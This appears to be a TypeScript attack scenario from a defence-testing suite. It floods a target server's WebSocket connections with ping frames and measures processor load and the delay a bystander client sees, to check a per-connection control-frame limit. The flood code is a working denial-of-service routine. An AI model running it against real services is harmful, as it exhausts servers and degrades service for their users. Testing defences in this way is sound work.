// Pings without end: each must be answered, and whoever asks pays less than whoever answers.
import { basic, readingOf } from '../asking.ts'
import type { Attack } from '../attack.ts'
import { decode, encode } from '../frames.ts'
import { raid } from '../raid.ts'
import type { Raid, Victim } from '../raid.ts'
import { answerOn, openAll, told } from '../wss.ts'
import type { Wss } from '../wss.ts'

const CONNECTIONS = 8
const FLOOD_MS = 4000
/** More at once, and `ws` ends a line whose pongs are not taken. */
const AT_ONCE = 40
const PING_BYTES = 16
const pings = Buffer.concat(Array<Buffer>(AT_ONCE).fill(encode({ opcode: 9, payload: '?'.repeat(PING_BYTES) })))
/** More than the rule would let pass. */
const MANY = CONNECTIONS * 300 + 1

export const attack: Attack = {
  slug: 'pings',
  title: 'A flood of pings',
  from: 'socket',
  defences: ['control-frames'],
  about: `On each of ${CONNECTIONS} connections, sends pings, ${AT_ONCE} at a time, the next as soon as these are answered, for ${FLOOD_MS / 1000} s.`,
  why: [
    'A ping must be answered as soon as is practical (RFC 6455 §5.5.2), with the same words. Libraries do that by themselves, below the application, so no limit on messages ever sees it. One event loop serves everybody, so whoever floods it takes from those who read; the card says how much of the processor’s time this one attacker took.',
    'The defence: at most 300 pings and pongs of one connection in 10 s (controlFramesPer10s in /limits), then close code 4029. An honest client sends one in 20 s.',
  ],
  source: { name: 'RFC 6455 §5.5.2 and §10.4', url: 'https://www.rfc-editor.org/rfc/rfc6455#section-5.5.2' },

  run: (target, signal) =>
    raid(target, signal, async (raid) => {
      const sockets = await openAll(raid, target, CONNECTIONS, { Authorization: basic(target.attacker) })
      const calm = await bystander(raid, target, 1000)
      const before = await readingOf(target, raid.over)
      const startedAt = performance.now()
      const [floods, busy] = await Promise.all([
        Promise.all(sockets.map((socket) => flood(socket, startedAt + FLOOD_MS))),
        bystander(raid, target, FLOOD_MS),
      ])
      const seconds = (performance.now() - startedAt) / 1000
      const worked = (await readingOf(target, raid.over)).processorSeconds - before.processorSeconds
      const answered = floods.reduce((sum, { pongs }) => sum + pongs, 0)
      const codes = floods.map(({ code }) => code)
      const isOpen = codes.every((code) => code === undefined)
      if (isOpen && answered < MANY)
        throw new Error(`only ${answered} pings were answered, which the rule lets pass: too slow a machine to tell`)
      return {
        succeeded: isOpen,
        seen: [
          `${answered} pings were answered, ${Math.round(answered / seconds)} a second; ${told(codes, 'open to the end')}`,
          `the server’s processor worked for ${worked.toFixed(2)} of ${seconds.toFixed(2)} s`,
          `somebody else’s requests took ${calm} before, ${busy} meanwhile`,
        ],
      }
    }),
}

/** @returns how many were answered, and the code that the line was closed with, if it was. */
async function flood({ line }: Wss, until: number): Promise<{ pongs: number; code: number | undefined }> {
  let pongs = 0
  let due = 0
  while (performance.now() < until) {
    if (due === 0) {
      if (!(await line.write(pings))) return { pongs, code: 1006 }
      due = AT_ONCE
    }
    const heard = await line.until(read, 1000)
    if (!heard) {
      if (line.ended !== undefined) return { pongs, code: 1006 }
      continue
    }
    line.take(heard.size)
    pongs += heard.pongs
    due = Math.max(0, due - heard.pongs)
    if (heard.code !== undefined) return { pongs, code: heard.code }
  }
  return { pongs, code: undefined }
}

/** All whole frames that have come, at once: a promise for each of them would make the attacker the slower one. */
function read(bytes: Buffer): { pongs: number; code: number | undefined; size: number } | undefined {
  const heard = { pongs: 0, code: undefined as number | undefined, size: 0 }
  for (;;) {
    const frame = decode(bytes.subarray(heard.size))
    if (!frame) return heard.size === 0 ? undefined : heard
    heard.size += frame.size
    if (frame.opcode === 10) heard.pongs++
    if (frame.opcode === 8) heard.code = frame.payload.length < 2 ? 1005 : frame.payload.readUInt16BE(0)
  }
}

/** Somebody who asks for one thing after the other on one connection. @returns the middle and the longest time, in words */
async function bystander(raid: Raid, { port }: Victim, ms: number): Promise<string> {
  const line = await raid.open()
  const until = performance.now() + ms
  const times: number[] = []
  while (performance.now() < until && line.ended === undefined) {
    const asked = performance.now()
    await line.write(`GET /healthz HTTP/1.1\r\nHost: localhost:${port}\r\n\r\n`)
    if (await answerOn(line, 2000)) times.push(performance.now() - asked)
    await raid.sleep(20)
  }
  line.end()
  times.sort((one, other) => one - other)
  return `${(times[times.length >> 1] ?? NaN).toFixed(1)} ms (median; longest ${(times.at(-1) ?? NaN).toFixed(1)} ms)`
}
